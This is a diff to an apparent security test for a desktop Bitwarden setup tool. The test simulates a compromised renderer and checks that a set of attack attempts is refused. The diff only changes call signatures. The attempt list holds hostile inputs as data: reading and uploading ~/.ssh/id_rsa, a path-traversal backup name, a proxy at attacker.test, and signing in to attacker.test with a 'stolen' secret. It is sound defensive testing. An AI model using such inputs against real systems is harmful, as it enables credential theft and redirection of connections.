@@ -89,7 +89,7 @@ beforeAll(async () => {
   const ca = await api.connections.pickCaFile();
   if (!ca.ok || !ca.value.file) throw new Error('CA not chosen');
   caFileId = ca.value.file.fileId;
-  const login = await api.connections.signInSelf(standIn.selfVaultUrl, { clientId: owner.clientId, clientSecret: owner.clientSecret, caFileId: ca.value.file.fileId });
+  const login = await api.connections.signIn({ role: 'self', vaultUrl: standIn.selfVaultUrl, clientId: owner.clientId, clientSecret: owner.clientSecret, caFileId: ca.value.file.fileId });
   expect(login.ok, JSON.stringify(login)).toBe(true);
   expect(asked).toEqual([]); // the install's own vault: nothing to ask
 });
@@ -116,7 +116,7 @@ describe('a compromised renderer, against the real dispatcher and core', () => {
     if (!typedPlanted.ok) throw new Error('typed folder refused');
     const plantedId = typedPlanted.value.installId;
     expect(typedPlanted.value.confirmed).toBe(false);
-    const plantedPlan = await api.cloud.planEnable(plantedId); // reading a typed folder is allowed
+    const plantedPlan = await api.cloud.planEnable({ installId: plantedId }); // reading a typed folder is allowed
     const plantedDiff = plantedPlan.ok ? plantedPlan.value.diff : 'x';
     const plantedEnvBefore = await fs.readFile(planted.envFile, 'utf8');
     const chosenEnvBefore = await fs.readFile(chosen.envFile, 'utf8');
@@ -128,7 +128,7 @@ describe('a compromised renderer, against the real dispatcher and core', () => {
     const attempts: Attempt[] = [
       // Reading ~/.ssh-like files.
       { name: 'inspect ~/.ssh/id_rsa by path', run: raw(INVOKE.licenseInspectFile, { path: sshKey }) },
-      { name: 'inspect a guessed file handle', run: () => api.license.inspect(guessed) },
+      { name: 'inspect a guessed file handle', run: () => api.license.inspect({ fileId: guessed }) },
       { name: 'register ~/.ssh/id_rsa as a dropped file (raw channel)', run: raw(INVOKE.fileRegisterDropped, { path: sshKey, purpose: 'license' }) },
       { name: 'register a dropped File the page made up', run: () => api.app.registerDroppedLicense(fakeFile('id_rsa.json')) },
       { name: 'trust ~/.ssh/id_rsa as the firewall CA by path', run: raw(INVOKE.firewallRun, { operationId: 'x', region: 'us', caFile: sshKey }) },
@@ -137,24 +137,24 @@ describe('a compromised renderer, against the real dispatcher and core', () => {
       { name: 'read a folder by path for the report', run: raw(INVOKE.setupReport, { installFolder: home }) },
       // Uploading a file that was not chosen.
       { name: 'upload ~/.ssh/id_rsa by path with force', run: raw(INVOKE.licenseUpload, { source: { kind: 'path', path: sshKey }, selfOrgId, force: true }) },
-      { name: 'upload a guessed file handle with force', run: () => api.license.upload(guessed, selfOrgId, { force: true }) },
-      { name: 'upload the chosen CA file as a license', run: () => api.license.upload(caFileId, selfOrgId, { force: true }) },
+      { name: 'upload a guessed file handle with force', run: () => api.license.upload({ fileId: guessed, selfOrgId, force: true }) },
+      { name: 'upload the chosen CA file as a license', run: () => api.license.upload({ fileId: caFileId, selfOrgId, force: true }) },
       { name: 'upload bytes the page made up', run: raw('sponsorship:license-inspect-bytes', { fileName: 'x.json', bytes: { base64: Buffer.from(license).toString('base64') } }) },
       // Running a planted bitwarden.sh.
       { name: 'apply in a folder named by path', run: raw(INVOKE.cloudApplyStart, { folder: planted.root, method: 'restart', operationId: 'a1' }) },
-      { name: 'apply in a typed folder the admin did not confirm', run: () => api.cloud.apply(plantedId, 'restart', 'a2') },
-      { name: 'apply with a guessed install handle', run: () => api.cloud.apply(guessed, 'no-pull', 'a3') },
+      { name: 'apply in a typed folder the admin did not confirm', run: () => api.cloud.apply({ installId: plantedId, method: 'restart', operationId: 'a2' }) },
+      { name: 'apply with a guessed install handle', run: () => api.cloud.apply({ installId: guessed, method: 'no-pull', operationId: 'a3' }) },
       // Editing another folder's env file.
       { name: 'enable cloud communication in a folder named by path', run: raw(INVOKE.cloudEnable, { folder: planted.root, confirmedDiff: plantedDiff }) },
-      { name: "enable cloud communication in a typed folder the admin did not confirm", run: () => api.cloud.enable(plantedId, plantedDiff) },
-      { name: 'write proxy variables into a typed folder the admin did not confirm', run: () => api.firewall.writeProxyEnv(plantedId, 'http://attacker.test:3128', 'x') },
-      { name: 'restore a typed folder the admin did not confirm', run: () => api.cloud.restore(plantedId) },
+      { name: "enable cloud communication in a typed folder the admin did not confirm", run: () => api.cloud.enable({ installId: plantedId, confirmedDiff: plantedDiff }) },
+      { name: 'write proxy variables into a typed folder the admin did not confirm', run: () => api.firewall.writeProxyEnv({ installId: plantedId, proxy: 'http://attacker.test:3128', confirmedDiff: 'x' }) },
+      { name: 'restore a typed folder the admin did not confirm', run: () => api.cloud.restore({ installId: plantedId }) },
       { name: 'restore the chosen install from a backup path of its choosing', run: raw(INVOKE.cloudRestore, { installId: guessed, backupPath: sshKey }) },
-      { name: 'restore the chosen install from a backup name outside its list', run: () => api.cloud.restore(chosenId, '../../../.ssh/id_rsa') },
+      { name: 'restore the chosen install from a backup name outside its list', run: () => api.cloud.restore({ installId: chosenId, backupName: '../../../.ssh/id_rsa' }) },
       { name: 'save progress naming a folder by path', run: raw(INVOKE.wizardProgressSave, { currentStep: null, completedSteps: [], installFolder: planted.root, values: {} }) },
       // Redirecting a connection without confirmation.
-      { name: 'sign in to a new host with the API key', run: () => api.connections.signInSelf('https://attacker.test', { clientId: 'user.4a1f3f36-7f8e-4a53-9b2e-5d1c1e7c9a10', clientSecret: 'stolen' }) },
-      { name: 'redirect the cloud connection to explicit endpoints', run: () => api.connections.signInCloud({ region: 'custom', apiUrl: 'https://localhost:1/api', identityUrl: 'https://localhost:1/identity' }, { clientId: 'user.4a1f3f36-7f8e-4a53-9b2e-5d1c1e7c9a10', clientSecret: 'stolen' }) },
+      { name: 'sign in to a new host with the API key', run: () => api.connections.signIn({ role: 'self', vaultUrl: 'https://attacker.test', clientId: 'user.4a1f3f36-7f8e-4a53-9b2e-5d1c1e7c9a10', clientSecret: 'stolen' }) },
+      { name: 'redirect the cloud connection to explicit endpoints', run: () => api.connections.signIn({ role: 'cloud', region: 'custom', apiUrl: 'https://localhost:1/api', identityUrl: 'https://localhost:1/identity', clientId: 'user.4a1f3f36-7f8e-4a53-9b2e-5d1c1e7c9a10', clientSecret: 'stolen' }) },
       { name: 'point the manual steps at its own vault URL', run: raw(INVOKE.licenseManualSteps, { installationId: null, cloudRegion: 'US', vaultUrl: 'https://attacker.test', installId: null }) },
       { name: 'point the sync guide at its own vault URL', run: raw(INVOKE.syncVerifyGuide, { selfOrgId: null, installId: null, vaultUrl: 'https://attacker.test' }) },
       // Opening an arbitrary URL.
